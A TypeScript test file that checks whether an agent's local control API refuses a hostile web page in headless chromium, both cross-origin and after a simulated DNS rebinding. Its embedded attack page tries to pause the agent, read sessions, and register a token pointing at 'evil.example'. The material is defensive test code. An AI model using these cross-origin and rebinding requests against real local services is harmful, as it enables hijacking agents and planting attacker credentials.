/**
 * A web page in a real browser (Debian's headless chromium) cannot steer the agent through the
 * control API: the page, served from another origin on loopback, tries to pause the agent and
 * read sessions cross-origin, and, after a simulated DNS rebinding (its own host name now leads
 * to the agent's port), the same requests same-origin. The server must see and refuse each one
 * (403), and the agent must stay running. Skipped, with the reason printed, where chromium is
 * missing (outside CI; in CI it is installed by .ci/run).
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync } from 'node:fs';
import fs from 'node:fs/promises';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ControlServer } from '../../src/control/index.js';
import { FakeAgent, TOKEN } from '../control/fake-agent.js';
import { startControlServer } from '../control/start-server.js';

const CHROMIUM = '/usr/bin/chromium';
const REBIND_HOST = 'rebind.test';

function skipReason(): string | undefined {
  if (process.platform !== 'linux') return 'not Linux';
  if (existsSync(CHROMIUM)) return undefined;
  if (process.env.CI !== undefined) {
    throw new Error(`${CHROMIUM} is missing in CI: .ci/run installs the chromium package`);
  }
  return `${CHROMIUM} is not installed (Debian: apt-get install chromium)`;
}
const reason = skipReason();
if (reason !== undefined) console.log(`skipping the browser test: ${reason}`);

/** The attacker's page: every attempt, then a report to the test over a no-cors request. */
function attackPage(agentPort: number, reportUrl: string): string {
  return `<!doctype html><meta charset="utf-8"><title>not the agent</title><script>
(async () => {
  const results = {};
  async function attempt(name, url, init) {
    try {
      const res = await fetch(url, init);
      results[name] = res.type === 'opaque' ? 'opaque' : res.status + ' ' + (await res.text());
    } catch (e) {
      results[name] = 'failed: ' + e.name;
    }
  }
  const agent = 'http://127.0.0.1:${agentPort}';
  await attempt('cross-site pause', agent + '/v1/pause', { method: 'POST' });
  await attempt('cross-site pause, no-cors', agent + '/v1/pause', { method: 'POST', mode: 'no-cors' });
  await attempt('cross-site form-like pause', 'http://localhost:${agentPort}/v1/pause', {
    method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{}' });
  await attempt('cross-site sessions', agent + '/v1/sessions', {});
  // After "rebinding", this page's own origin leads to the agent: same-origin requests.
  await attempt('rebound sessions', '/v1/sessions', {});
  await attempt('rebound pause', '/v1/pause', { method: 'POST' });
  await attempt('rebound tokens', '/v1/tokens', { method: 'POST',
    body: JSON.stringify({ boundary_addr: 'https://evil.example', token: 'at_evil000001_s1xyz' }) });
  await fetch('${reportUrl}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) });
})();
</script>`;
}

describe.skipIf(reason !== undefined)('a web page in a real browser', () => {
  const agent = new FakeAgent();
  const refused: { method: string; path: string; status: number }[] = [];
  let control: ControlServer;
  let pages: http.Server;
  let rebinder: net.Server;
  let browser: ChildProcess | undefined;
  let profile: string;
  let report: (results: Record<string, string>) => void = () => undefined;
  const reported = new Promise<Record<string, string>>((resolve) => (report = resolve));

  beforeAll(async () => {
    const log = pino(
      { level: 'info' },
      new Writable({
        write(chunk: Buffer, _enc, done) {
          const line = JSON.parse(chunk.toString()) as {
            msg: string;
            method: string;
            path: string;
            status: number;
          };
          if (line.msg === 'A control API request was refused.') {
            refused.push({ method: line.method, path: line.path, status: line.status });
          }
          done();
        },
      }),
    );
    control = await startControlServer(agent, { log, selfUid: process.getuid?.() ?? 0 });
    agent.tokens.set(process.getuid?.() ?? 0, { boundaryAddr: 'https://b.corp', token: TOKEN });

    // The attacker's web server: the page, and where the page reports what it got.
    pages = http.createServer((req, res) => {
      if (req.method === 'POST' && req.url === '/report') {
        let body = '';
        req.on('data', (c: Buffer) => (body += c.toString()));
        req.on('end', () => {
          report(JSON.parse(body) as Record<string, string>);
          res.end();
        });
        return;
      }
      const address = pages.address() as net.AddressInfo;
      res.writeHead(200, { 'Content-Type': 'text/html', Connection: 'close' });
      res.end(attackPage(control.port, `http://127.0.0.1:${address.port}/report`));
    });
    await new Promise<void>((resolve) => pages.listen(0, '127.0.0.1', resolve));

    // DNS rebinding, simulated: the page's host name serves the page at "/", and every other
    // request on that name reaches the agent's port, as if the name now resolved to it.
    rebinder = net.createServer({ pauseOnConnect: true }, (socket) => {
      socket.once('data', (first: Buffer) => {
        socket.pause();
        if (first.toString('latin1').startsWith('GET / ')) {
          socket.unshift(first);
          pages.emit('connection', socket);
          socket.resume();
          return;
        }
        const upstream = net.connect(control.port, '127.0.0.1', () => {
          upstream.write(first);
          socket.pipe(upstream).pipe(socket);
          socket.resume();
        });
        upstream.on('error', () => socket.destroy());
        socket.on('error', () => upstream.destroy());
      });
      socket.resume();
    });
    await new Promise<void>((resolve) => rebinder.listen(0, '127.0.0.1', resolve));
    profile = await fs.mkdtemp(path.join(os.tmpdir(), 'ca-chromium-'));
  });

  afterAll(async () => {
    if (browser?.pid !== undefined && browser.exitCode === null) {
      // The browser and the helpers it started are one process group, started by this test.
      const exited = new Promise((resolve) => browser?.once('exit', resolve));
      process.kill(-browser.pid, 'SIGKILL');
      await exited;
    }
    await new Promise((resolve) => rebinder.close(resolve));
    pages.closeAllConnections();
    await new Promise((resolve) => pages.close(resolve));
    await control.close();
    await fs.rm(profile, { recursive: true, force: true });
  });

  it('cannot pause the agent, read sessions or add a token, cross-origin or after DNS rebinding', async () => {
    const port = (rebinder.address() as net.AddressInfo).port;
    browser = spawn(
      CHROMIUM,
      [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        '--no-first-run',
        `--user-data-dir=${profile}`,
        `--host-resolver-rules=MAP ${REBIND_HOST} 127.0.0.1`,
        `http://${REBIND_HOST}:${port}/`,
      ],
      { stdio: 'ignore', detached: true },
    );
    const results = await Promise.race([
      reported,
      new Promise<never>((_resolve, reject) =>
        setTimeout(() => {
          reject(new Error('the page did not report within 30 s'));
        }, 30_000),
      ),
    ]);
    // What the page got: never a success.
    for (const [name, outcome] of Object.entries(results)) {
      expect(outcome, name).not.toMatch(/^2\d\d /);
    }
    expect(results['rebound sessions']).toMatch(/^403 /);
    // The agent saw the requests and refused each one; it was never paused.
    const seen = (method: string, p: string) =>
      refused.filter((r) => r.method === method && r.path === p && r.status === 403).length;
    expect(seen('POST', '/v1/pause')).toBeGreaterThanOrEqual(4);
    expect(seen('GET', '/v1/sessions')).toBeGreaterThanOrEqual(2);
    expect(seen('POST', '/v1/tokens')).toBeGreaterThanOrEqual(1);
    expect(agent.calls).toEqual([]);
    expect(agent.state).toBe('running');
    expect(agent.tokens.get(process.getuid?.() ?? 0)?.token).toBe(TOKEN);
  }, 45_000);
});
